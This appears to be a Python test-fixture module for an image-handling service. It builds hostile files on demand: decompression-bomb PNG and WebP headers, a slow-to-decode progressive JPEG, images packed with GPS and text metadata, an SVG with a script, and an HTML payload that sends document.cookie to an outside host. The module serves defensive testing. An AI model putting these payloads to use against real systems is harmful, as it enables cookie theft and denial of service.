"""Files that do harm, sent deliberately or by mistake; each is built when a test asks for it."""

import struct
import zlib

from PIL import Image, PngImagePlugin

from tests.crowd.pictures.images import draw, encode

SECRET = b"Serial 4711, 52.5 north"
SCRIPT = b"<html><script>fetch('https://example.org/' + document.cookie)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
ORIENTATION, DESCRIPTION, GPS = 0x0112, 0x010E, 0x8825


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, *, rows: bytes) -> bytes:
    """A PNG whose header claims this size, whatever its rows of pixels are."""
    heading = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = chunk(b"IHDR", heading) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def webp_of(width: int, height: int) -> bytes:
    """A tiny file with a large canvas in its extended header."""
    inner = encode(draw(), "WEBP")[12:]
    canvas = b"\0\0\0\0" + struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    body = b"WEBP" + b"VP8X" + struct.pack("<I", len(canvas)) + canvas + inner
    return b"RIFF" + struct.pack("<I", len(body)) + body


def jpeg_of_scans(count: int) -> bytes:
    """A progressive picture whose last scan is repeated: a small file that takes long to draw."""
    whole = encode(draw(size=(640, 480)), "JPEG", progressive=True)
    starts = [at for at in range(len(whole) - 1) if whole[at : at + 2] == b"\xff\xda"]
    last = whole[starts[-1] : -2]
    return whole[:-2] + last * (count - len(starts)) + whole[-2:]


def frames(kind: str) -> bytes:
    return encode(draw(), kind, save_all=True, append_images=[draw(seed=1)], duration=100)


def with_metadata(kind: str, *, orientation: int = 1) -> bytes:
    """A picture with camera, place, comment, XMP, and every kind of text that the format knows."""
    exif = Image.Exif()
    exif[ORIENTATION], exif[DESCRIPTION] = orientation, SECRET.decode()
    exif[GPS] = {1: "N", 2: (52.0, 30.0, 0.0), 29: SECRET.decode()}
    if kind == "PNG":
        words = PngImagePlugin.PngInfo()
        words.add_text("Comment", SECRET.decode())
        words.add_text("Author", SECRET.decode(), zip=False)
        words.add_itxt("XML:com.adobe.xmp", SECRET.decode())
        return encode(draw(), kind, exif=exif, pnginfo=words)
    if kind == "JPEG":
        return encode(draw(), kind, exif=exif, xmp=SECRET, comment=SECRET, quality=95)
    return encode(draw(), kind, exif=exif, xmp=SECRET, quality=95)


def corners(image: Image.Image) -> list[tuple[int, int, int]]:
    """Approximate colors of the four quarters, row by row from the upper left."""
    small = image.convert("RGB").resize((2, 2), Image.Resampling.BOX)
    return [small.getpixel((x, y)) for y in (0, 1) for x in (0, 1)]  # type: ignore[misc]


def quarters(*, size: tuple[int, int] = (120, 80), mode: str = "RGB") -> Image.Image:
    """A picture that is red and lime above, blue and white below."""
    small = Image.new("RGB", (2, 2))
    small.putdata([(255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 255)])
    return small.resize(size, Image.Resampling.NEAREST).convert(mode)
